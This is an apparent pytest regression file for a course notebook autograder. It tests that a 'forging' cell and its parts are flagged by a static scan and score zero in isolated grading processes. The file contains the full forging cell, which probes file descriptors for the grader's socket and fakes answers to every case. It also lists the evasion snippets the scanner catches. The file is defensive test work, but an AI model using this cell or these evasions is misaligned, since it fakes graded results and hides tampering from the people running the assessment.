"""Red-team regressions, third review: a cell that answers cases itself on the notebook's main thread.

A last cell that never returns, finds the channel socket by trying descriptors and speaks the
runtime's framing once answered every case itself (an unedited a02 exercise scored 27 / 29 that way).
Now the process that ran the cells is killed before any case, and each case runs in a fresh process
that loads only the notebook's definitions (:mod:`mha_course.grading.inside.definitions`), so the forger
scores nothing even without the static scan; these tests also hold the scan's rules for each piece
such a cell needs (a descriptor opened without a path, sockets and ``select`` without the ``socket``
module, code handed to ``timeit`` through a name).

Where the cases came from: the third review (test_redteam_round3.py before the tests mirrored the
package); its case of a folder named like a classmate attacks the class and is in test_attack_the_class.py.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from grading_fake import assert_the_attack_cell_was_reached, require_sandbox

from mha_course.grading.engine import pipeline as grader
from mha_course.grading.engine import registry
from mha_course.grading.engine.process import Isolator
from mha_course.grading.static import scan
from mha_course.grading.static.scan import ScanReport
from mha_course.grading.verdicts import Limits

ROOT = Path(__file__).resolve().parents[3]
# The forging cell never returns: the notebook process does not end when the broker asks it to settle, and the
# sandbox is stopped at that cell's time limit. The exercise's own cells take about a second: 10 s shows the
# same as 30 s.
LIMITS = Limits(case_timeout=20, cell_timeout=10, notebook_timeout=90, memory_mb=1024)

# The forging cell: no sys.argv, os.read/os.write, socket, fileno= or open(<int literal>); the
# descriptor is found with os.stat over a range and opened with open(k).
FORGE = r"""
import io, json, os, stat, struct
import numpy as np

L = struct.Struct(">Q")

def softmax_ref(x, axis=-1):
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)

def channel():
    for k in range(3, 64):
        try:
            if stat.S_ISSOCK(os.stat(k).st_mode):
                return open(k, "r+b", buffering=0)
        except OSError:
            pass

def exact(f, n):
    b = b""
    while len(b) < n:
        c = f.read(n - len(b))
        if not c:
            raise SystemExit
        b += c
    return b

def recv(f):
    (n,) = L.unpack(exact(f, 8))
    m = json.loads(exact(f, n))
    (k,) = L.unpack(exact(f, 8))
    return m, exact(f, k)

def send(f, m, blob=b""):
    d = json.dumps(m).encode()
    f.write(L.pack(len(d)) + d + L.pack(len(blob)) + blob)

def npy(a):
    b = io.BytesIO()
    np.save(b, np.asarray(a), allow_pickle=False)
    return b.getvalue()

def arrays(structure, blob):
    found = {}
    def walk(n):
        if n.get("t") == "array":
            found[n["i"]] = n["n"]
        for v in (n.get("items") or {}).values() if n.get("t") == "dict" else n.get("items") or []:
            walk(v)
    walk(structure)
    out, at = {}, 0
    for i in sorted(found):
        out[i] = np.load(io.BytesIO(blob[at:at + found[i]]), allow_pickle=False)
        at += found[i]
    return out

def field(structure, name, arrs):
    n = structure["items"][name]
    return arrs[n["i"]] if n["t"] == "array" else n["v"]

f = channel()
send(f, {"event": "cell_done", "error": None})
while True:
    m, blob = recv(f)
    if m.get("event") == "cell":
        send(f, {"event": "cell_done", "error": None})
        continue
    arrs = arrays(m["inputs"], blob)
    x = field(m["inputs"], "x", arrs)
    if m["call"].endswith("_unchanged"):
        a, b = npy(softmax_ref(x)), npy(x)
        node = {"t": "tuple", "items": [{"t": "array", "i": 0, "n": len(a)},
                                        {"t": "tuple", "items": [{"t": "array", "i": 1, "n": len(b)}]}]}
        send(f, {"ok": True, "structure": node, "forbidden": [], "ops": []}, a + b)
    else:
        a = npy(softmax_ref(x, field(m["inputs"], "axis", arrs)))
        send(f, {"ok": True, "structure": {"t": "array", "i": 0, "n": len(a)}, "forbidden": [], "ops": []}, a)
"""


def _tampering(source: str) -> list[str]:
    return [f.name for f in scan.scan([(0, source)], registry.get_assignment("a02_softmax")).tampering]


FLAGGED = {
    "the forging cell": (FORGE, "file descriptor number"),  # k loops over a range(): a number
    "open of a loop variable": ("for k in range(3, 9):\n    f = open(k, 'r+b', buffering=0)", "descriptor number"),
    "open of a parameter": ("def g(fd):\n    return open(fd, 'rb')\ng(3)", "not written as a path"),
    "open of bools summed": ("f = open(True + True + True, 'rb')", "not written as a path"),
    "io.open of a variable": ("import io\nfor k in range(9):\n    io.open(k)", "file descriptor number"),
    "open of a loop variable over anything": ("for k in handles:\n    open(k, 'rb')", "not written as a path"),
    "open passed around": ("o = open\no(3)", "open passed around"),
    "_pyio.open of a descriptor": ("import _pyio\nfor k in range(9):\n    _pyio.open(k, 'r+b', buffering=0)", "_pyio"),
    "fileinput of a descriptor": ("import fileinput\nfileinput.input(files=[3], mode='rb')", "fileinput"),
    "tokenize.open of a descriptor": ("import tokenize\nfor k in range(9):\n    tokenize.open(k)", "tokenize.open"),
    "_io.FileIO": ("import _io\n_io.FileIO(3)", "_io"),
    "_socket with a positional fileno": ("import _socket\n_socket.socket(1, 1, 0, 3)", "_socket"),
    "select over descriptors": ("import select\nselect.select([3], [], [], 0)", "select"),
    "selectors": ("import selectors\nselectors.DefaultSelector()", "selectors"),
    "os.splice": ("import os\nos.splice(3, 4, 10)", "os.splice"),
    "timeit of a computed string in a name": (
        "import timeit\ns = ''.join(map(chr, [105, 109]))\ntimeit.timeit(s, number=1)",
        "built at run time",
    ),
    "timeit of a class attribute string": (
        "import timeit\nclass C:\n    s = 'x'\ntimeit.timeit(C.s)",
        "built at run time",
    ),
    "timeit of an instance attribute": (
        "import timeit\nclass C:\n    def __init__(self, c):\n        self.s = c\ntimeit.timeit(C(str(1)).s)",
        "built at run time",
    ),
    "timeit through a parameter given a string": (
        "import timeit\ndef b(code):\n    return timeit.timeit(code)\nb(str(1))",
        "built at run time",
    ),
    "timeit through a helper given a string": (
        "import timeit\ndef time_ms(fn, number=3):\n    return timeit.repeat(fn, number=number)\n"
        "s = ''.join(map(chr, [112, 97, 115, 115]))\ntime_ms(s)",
        "built at run time",
    ),
    "timeit through a helper passed around": (
        "import timeit\ndef time_ms(fn):\n    return timeit.repeat(fn)\nh = [time_ms]\nh[0]('pass')",
        "built at run time",
    ),
    "timeit.main": ("import timeit\ntimeit.main(['-n', '1', 'pass'])", "timeit.main"),
    "timeit.template assigned": ("import timeit\ntimeit.template = 'x'", "timeit.template"),
}


@pytest.mark.parametrize("name", sorted(FLAGGED))
def test_each_piece_of_a_forging_cell_is_flagged(name):
    source, expected = FLAGGED[name]
    found = " | ".join(_tampering(source))
    assert expected in found, (name, found)


HONEST = {
    "open of a literal": "with open('notes.txt', 'w') as f:\n    f.write('x')",
    "open of a Path": "from pathlib import Path\nroot = Path('data')\np = root / 'x.txt'\nopen(p)",
    "open of os.path.join": "import os\np = os.path.join('a', 'b')\nwith open(p) as f:\n    pass",
    "open of an f-string": "i = 3\nopen(f'out{i}.txt', 'w')",
    "timeit of a def": "import timeit\ndef step():\n    pass\ntimeit.timeit(step, number=3)",
    "timeit of a lambda in a name": "import timeit\nf = lambda: 0\ntimeit.repeat(f, number=3)",
    "timeit of a method": "import timeit, torch\nm = torch.nn.Linear(2, 2)\ntimeit.timeit(m.eval, number=1)",
    "timeit with a default-argument lambda": "import timeit\ns = 1\ntimeit.repeat(lambda s=s: s, repeat=3, number=5)",
    "timeit through a helper given lambdas (lecture 05)": (
        "import timeit\ndef time_ms(fn, repeat=5, number=3):\n    return min(timeit.repeat(fn, repeat=repeat, "
        "number=number))\nm = 2\ntime_ms(lambda m=m: m * 2)\ndef step():\n    pass\ntime_ms(step, number=1)"
    ),
    "attributes named like modules": "class A:\n    pass\na = A()\na.code = 1\na.signal = 2",
}


@pytest.mark.parametrize("name", sorted(HONEST))
def test_honest_files_and_timings_are_not_flagged(name):
    assert _tampering(HONEST[name]) == [], name


# --- in the sandbox ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def isolator():
    require_sandbox()
    isolator = Isolator(min_isolation="A")
    yield isolator
    isolator.close()


def _forged(tmp_path: Path) -> Path:
    nb = json.loads((ROOT / "exercises" / "a02_softmax.ipynb").read_text())
    nb["cells"].append({"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": FORGE})
    for cell in nb["cells"]:
        cell.pop("id", None)
    nb["nbformat_minor"] = 4
    path = tmp_path / "submission.ipynb"
    path.write_text(json.dumps(nb))
    return path


def test_a_main_thread_forger_scores_nothing(tmp_path, isolator):
    """The unedited exercise plus the forging cell, scan on: 0 points (the runtime answers no case from it),
    and the submission is flagged for review, the evidence naming open() of a descriptor number."""
    path = _forged(tmp_path)
    result = grader.grade_notebook(path, limits=LIMITS, isolator=isolator, seed=11)
    assert result.error is None, result.error
    assert_the_attack_cell_was_reached(result)
    assert sum(t.score for t in result.tests) == 0, [(t.name, t.output) for t in result.tests if t.score]
    flag = next(f for f in result.flags if "file descriptor number" in f.finding)
    cell = json.loads(path.read_text())["cells"][flag.cell - 1]
    assert flag.source == 'return open(k, "r+b", buffering=0)' and flag.source in "".join(cell["source"])
    assert result.review_state == "to review (likely tampering)"


def test_a_main_thread_forger_scores_nothing_without_the_scan(tmp_path, isolator, monkeypatch):
    """The notebook process that ran the forging cell is killed before any case: a case process loads
    only the definitions (the forging loop is skipped), so nothing answers for the unedited exercise."""
    monkeypatch.setattr(grader, "scan", lambda cells, assignment: ScanReport())
    result = grader.grade_notebook(_forged(tmp_path), limits=LIMITS, isolator=isolator, seed=11)
    assert result.error is None, result.error
    assert_the_attack_cell_was_reached(result)
    assert sum(t.score for t in result.tests) == 0
